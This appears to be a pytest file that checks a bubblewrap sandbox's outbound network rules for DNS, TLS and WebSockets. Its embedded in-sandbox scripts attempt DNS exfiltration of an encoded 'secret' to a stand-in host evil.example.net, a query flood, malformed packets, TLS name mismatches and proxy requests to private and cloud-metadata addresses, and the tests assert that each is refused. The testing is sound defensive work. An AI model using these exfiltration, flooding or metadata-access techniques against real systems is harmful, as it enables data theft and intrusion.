"""What speaks through the ways out is held to the rules: name lookups, TLS, WebSockets."""

from pathlib import Path

import pytest

from hutch_launchers.launcher import Launcher
from support.networks import network
from support.public_net import PublicNet
from support.ways_out import Sandboxes, run_tries

pytestmark = [pytest.mark.slow, pytest.mark.real("bubblewrap")]

DNS = r"""
seen = {}
def question(name, kind=1, flags=0x0100, number=7):
    labels = b"".join(bytes([len(x)]) + x for x in name.encode("latin-1").split(b".")) + b"\0"
    return struct.pack(">HHHHHH", number, flags, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)
def asked(data, tcp=False):
    if tcp:
        with socket.create_connection(("127.0.0.53", 53), 60) as s:
            s.sendall(struct.pack(">H", len(data)) + data)
            got = s.recv(999)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(5)
            got = b""
            while not got:
                s.sendto(data, ("127.0.0.53", 53))
                s.sendto(question("api.example.org", number=8), ("127.0.0.53", 53))
                try:
                    got = s.recv(999)
                except TimeoutError:
                    pass  # both were lost in a flood
            if got[:2] == b"\0\x08":
                return "silence"  # the second was answered and the first was not
    count = struct.unpack(">H", got[6:8])[0]
    return f"{got[3] & 15} {socket.inet_ntoa(got[-4:]) if count else '-'}"
for name, kind in (("A", 1), ("AAAA", 28), ("TXT", 16), ("HTTPS", 65), ("MX", 15)):
    seen[name] = asked(question("x.cdn.example.org", kind))
seen["again"] = asked(question("X.cdn.Example.ORG"))
seen["another"] = asked(question("y.cdn.example.org"))
seen["exact"] = asked(question("api.example.org"))
seen["by TCP"] = asked(question("x.cdn.example.org"), tcp=True)
seen["not granted"] = asked(question("evil.example.net"))
seen["carries data"] = asked(question("c2VjcmV0" * 7 + ".evil.example.net", 16))
seen["apex"] = asked(question("cdn.example.org"))
seen["NUL"] = asked(question("x\0.cdn.example.org"))
seen["reverse"] = asked(question("1.0.1.127.in-addr.arpa", 12))
seen["update"] = asked(question("x.cdn.example.org", flags=0x2800))
seen["an answer"] = asked(question("x.cdn.example.org", flags=0x8000))
seen["garbage"] = asked(b"\xff" * 40)
seen["short"] = asked(b"\0")
seen["loop"] = asked(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\xc0\x0c" + bytes(4))
for _ in range(3000):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(question("f.evil.example.net"), ("127.0.0.53", 53))
while (after := asked(question("api.example.org"))) == "silence":
    pass  # the first was lost alone
seen["after a flood"] = after
"""


async def test_the_name_server_answers_from_the_rules_and_asks_nobody(
    bubble: Launcher, net: PublicNet, tmp_path: Path
) -> None:
    boxes = Sandboxes(bubble, net, tmp_path)
    seen = await run_tries(boxes, DNS)
    here = seen.pop("A")
    assert here.startswith("0 127.2.")
    assert seen.pop("again") == seen.pop("by TCP") == here
    assert seen.pop("another").startswith("0 127.2.")
    assert seen.pop("exact") == seen.pop("after a flood") == "0 127.1.0.1"
    nothing = ("AAAA", "TXT", "HTTPS", "MX")
    assert {name: seen.pop(name) for name in nothing} == dict.fromkeys(nothing, "0 -")
    silent = ("update", "an answer", "garbage", "short", "loop")
    assert {name: seen.pop(name) for name in silent} == dict.fromkeys(silent, "silence")
    assert seen == dict.fromkeys(seen, "3 -")
    assert net.resolved == []
    assert [c.host for c in boxes.log].count("evil.example.net") == 1


TLS = r"""
import ssl
seen = {}
def over(sock, name):
    context = ssl.create_default_context(cafile="/opt/ca.pem")
    try:
        with context.wrap_socket(sock, server_hostname=name) as s:
            s.sendall(b"GET /hello HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            return s.recv(12).decode()
    except OSError as error:
        return "closed"
def tunnel(target):
    s = socket.create_connection(("127.0.0.1", 3128), 60)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    return s, s.recv(999)[:12].decode()
s, seen["CONNECT"] = tunnel("api.example.org:443")
seen["its own name"] = over(s, "api.example.org")
seen["another granted name"] = over(tunnel("api.example.org:443")[0], "x.cdn.example.org")
seen["one not granted"] = over(tunnel("x.cdn.example.org:443")[0], "other.example.net")
seen["its own at 8443"] = over(tunnel("api.example.org:8443")[0], "api.example.org")
seen["another at 8443"] = over(tunnel("api.example.org:8443")[0], "x.cdn.example.org")
seen["a private address"] = tunnel("private.cdn.example.org:443")[1]
seen["metadata"] = tunnel("metadata.cdn.example.org:443")[1]
host = "private.cdn.example.org"
seen["at its door"] = over(socket.create_connection((host, 443), 60), host)
"""


UPGRADE = r"""
seen = {}
asks = b"GET /chat HTTP/1.1\r\nHost: api.example.org\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
def talk(s):
    s.settimeout(60)
    s.sendall(asks)
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += s.recv(1)
    s.sendall(b"\x81\x03hey")
    return head[:12].decode() + s.recv(99).decode("latin-1")
seen["at its door"] = talk(socket.create_connection(("api.example.org", 80)))
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT api.example.org:80 HTTP/1.1\r\nHost: api.example.org:80\r\n\r\n")
answer = b""
while not answer.endswith(b"\r\n\r\n"):
    answer += s.recv(1)
seen["by CONNECT"] = talk(s)
"""


async def test_websockets_pass_by_a_door_and_by_connect(
    bubble: Launcher, net: PublicNet, tmp_path: Path
) -> None:
    seen = await run_tries(Sandboxes(bubble, net, tmp_path), UPGRADE)
    assert seen == dict.fromkeys(("at its door", "by CONNECT"), "HTTP/1.1 101\x81\x03HEY")


async def test_tls_must_be_to_the_judged_name_and_private_addresses_are_not_dialled(
    bubble: Launcher, net: PublicNet, tmp_path: Path
) -> None:
    net.private |= {"private.cdn.example.org": "10.0.0.1", "metadata.cdn.example.org": "169.254.169.254"}
    granted = network("api.example.org", "api.example.org:8443", "*.cdn.example.org")
    boxes = Sandboxes(bubble, net, tmp_path, granted)
    refused = ("another granted name", "another at 8443", "one not granted", "at its door")
    assert await run_tries(boxes, TLS) == {
        **dict.fromkeys(("CONNECT", "its own name", "its own at 8443"), "HTTP/1.1 200"),
        **dict.fromkeys(refused, "closed"),
        **dict.fromkeys(("a private address", "metadata"), "HTTP/1.1 403"),
    }
    assert sorted(str(c.refused) for c in boxes.log if c.refused) == ["address"] * 3 + ["server_name"] * 3
